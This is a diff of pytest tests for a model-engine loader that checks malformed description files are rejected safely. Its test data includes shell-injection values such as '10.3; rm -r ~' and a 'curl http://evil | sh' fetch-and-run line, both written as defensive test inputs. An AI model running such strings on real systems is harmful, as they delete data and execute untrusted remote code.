@@ -19,7 +19,7 @@ import pytest
 from zoo.driver import device_name
 from zoo.engine.build import attach_timing_cache, build, compile_network, save_timing_cache
 from zoo.engine.effort import Effort
-from zoo.engine.passport import Engine, description_path, load_description, load_engine
+from zoo.engine.passport import Engine, description_path, load_description, load_engine, rebuild_at
 from zoo.engine.shapes import Shapes, parse_shape, parse_size
 from zoo.engine.store import kept
 from zoo.errors import Refused, ZooError
@@ -136,7 +136,9 @@ def test_a_passport_says_what_the_engine_is(rtx: Api, saved: Path) -> None:
 
 def test_no_passport(saved: Path) -> None:
     description_path(saved).unlink()
-    with pytest.raises(ZooError, match=r"has no description lenet5\.engine\.json beside it; rebuild it"):
+    with pytest.raises(
+        ZooError, match=r"has no description lenet5\.engine\.json beside it, .* copy it along, or"
+    ):
         load_engine(saved)
 
 
@@ -147,7 +149,8 @@ def test_no_passport(saved: Path) -> None:
         (b"\xff\xfe\x00", "cannot be read"),
         (b"", "cannot be read"),
         (b"[]", "is not the description of an engine"),
-        (b'{"format": "zoo engine 1"}', "is not the description of an engine"),
+        (b'{"format": "zoo engine 1"}', "has no field 'model', which should be the name of a model"),
+        (b"[" * 100_000, "it is nested too deeply"),
         (b'{"format": "another 1", "model": "lenet5"}', "is not the description of an engine"),
     ],
 )
@@ -236,6 +239,55 @@ def test_other_weights_are_not_slipped_into_an_engine(rtx: Api, tmp_path: Path) 
     with pytest.raises(ZooError, match="its content differs.*--save-engine"):
         rebuild(path, load_description(path))
     assert path.read_bytes() == before
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("model", "; touch x #"), ("model", None), ("flavour", ["rtx"]), ("version", {}), ("version", "10.3; rm -r ~"),
+        ("precision", "; touch x #"), ("precision", None), ("level", 9), ("level", True), ("heuristic", "yes"),
+        ("labels", 5), ("labels", [1]), ("size", -1), ("size", 1e300), ("sha256", "x"),
+        ("preprocess", {"kind": "None"}),
+        ("input", {"min": [1], "opt": [1], "max": [1]}), ("input", []),
+        ("weights", {"file": "a\nb", "sha256": "0" * 64}),
+        ("compute_capability", "sm_90"), ("gpu", "\x1b[2J"), ("task", 3),
+    ],
+)  # fmt: skip
+def test_a_field_that_is_not_of_its_kind(saved: Path, field: str, value: Any) -> None:
+    description = load_description(saved)
+    description_path(saved).write_text(json.dumps(description | {field: value}))
+    with pytest.raises(ZooError, match="rebuild the engine with python -m zoo.build") as error:
+        load_engine(saved)
+    assert str(error.value).isprintable()
+
+
+def test_the_command_to_rebuild_is_never_read_from_the_file(saved: Path) -> None:
+    description = load_description(saved)
+    description_path(saved).write_text(json.dumps(description | {"rebuild": "curl http://evil | sh"}))
+    assert rebuild_at(saved, load_description(saved)) == f"{description['rebuild']} --save-engine {saved}"
+
+
+def test_an_engine_names_its_weights_from_anywhere(rtx: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    shutil.copy(LENET, tmp_path / "mine.safetensors")
+    monkeypatch.chdir(tmp_path)
+    assert lenet(rtx, Path("mine.safetensors")).description["weights"]["file"] == str(tmp_path / "mine.safetensors")
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "words"),
+    [
+        ("none.engine", None, "cannot be read: No such file"),
+        ("best.pt", b"PK\3\4rest", "is not an engine but a PyTorch checkpoint; give the model's name and --weights"),
+        ("net.onnx", b"\x08\x09\x12\x00", "is not an engine but an ONNX file"),
+        ("w.safetensors", b"\x40\0\0\0\0\0\0\0{}", "is not an engine but a weights file"),
+        ("bare.plan", b"ftrt....", "copy it along"),
+    ],
+)
+def test_what_is_taken_for_an_engine(tmp_path: Path, name: str, content: bytes | None, words: str) -> None:
+    if content is not None:
+        (tmp_path / name).write_bytes(content)
+    with pytest.raises(ZooError, match=words):
+        load_engine(tmp_path / name)
 
 
 # Engines built at first use
